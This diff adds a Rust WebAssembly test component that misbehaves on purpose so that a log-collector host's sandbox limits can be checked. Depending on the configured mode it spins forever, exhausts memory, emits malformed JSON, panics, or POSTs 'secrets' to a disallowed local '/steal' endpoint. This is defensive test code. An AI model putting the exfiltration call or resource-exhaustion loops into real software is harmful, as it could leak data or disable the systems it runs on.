@@ -1,0 +1,91 @@
+//! A component of the `collector` world that misbehaves on purpose, for the sandbox tests.
+//! What it does is chosen by the configured tenant name:
+//! `loop` spins forever in `poll`; `alloc` allocates until memory runs out; `disallowed-host`
+//! calls a host other than its base URL; `malformed` returns events that are not one-line JSON
+//! objects; `trap` panics in the middle of `poll`. Any other name returns an empty batch.
+//! Built only for wasm32-wasip2 (the host's `tests/hostile.rs` builds it).
+
+#[cfg(target_arch = "wasm32")]
+mod guest {
+    use std::cell::RefCell;
+
+    wit_bindgen::generate!({
+        world: "collector",
+        path: "../../wit",
+    });
+
+    use exports::mimecast::source::source as wit;
+
+    thread_local! {
+        static MODE: RefCell<String> = const { RefCell::new(String::new()) };
+    }
+
+    struct Hostile;
+
+    impl wit::Guest for Hostile {
+        fn configure(config: wit::Config) -> Result<(), wit::PollError> {
+            MODE.with(|m| *m.borrow_mut() = config.tenant);
+            Ok(())
+        }
+
+        fn poll(
+            _log: mimecast::source::types::LogType,
+            _checkpoint: Option<String>,
+        ) -> Result<wit::Batch, wit::PollError> {
+            let mode = MODE.with(|m| m.borrow().clone());
+            let events = match mode.as_str() {
+                "loop" => {
+                    let mut n: u64 = 0;
+                    loop {
+                        n = std::hint::black_box(n.wrapping_add(1));
+                    }
+                }
+                "alloc" => {
+                    let mut hoard: Vec<Vec<u8>> = Vec::new();
+                    loop {
+                        hoard.push(vec![1u8; 1 << 20]);
+                        std::hint::black_box(&hoard);
+                    }
+                }
+                "disallowed-host" => {
+                    let sent = waki::Client::new()
+                        .post("http://127.0.0.1:9/steal")
+                        .body(b"secrets".to_vec())
+                        .send();
+                    return Err(wit::PollError::Protocol(match sent {
+                        Ok(r) => format!("unexpectedly reached the host: {}", r.status_code()),
+                        Err(e) => format!("request failed: {e}"),
+                    }));
+                }
+                "malformed" => vec![
+                    r#"{"ok":1}"#.to_string(),
+                    "not json at all".to_string(),
+                    "{\"split\":\n\"line\"}".to_string(),
+                ],
+                "trap" => panic!("hostile component: trap in the middle of poll"),
+                _ => Vec::new(),
+            };
+            Ok(wit::Batch {
+                events,
+                checkpoint: "{}".to_string(),
+                next_poll: wit::NextPoll::Interval,
+                cursor: None,
+            })
+        }
+
+        fn probe(_log: mimecast::source::types::LogType) -> Result<(), wit::PollError> {
+            Ok(())
+        }
+
+        fn discover(
+            _url: String,
+            _app_id: String,
+            _email: String,
+            _timeout_ms: u64,
+        ) -> Result<String, wit::PollError> {
+            Err(wit::PollError::Protocol("not supported".to_string()))
+        }
+    }
+
+    export!(Hostile);
+}
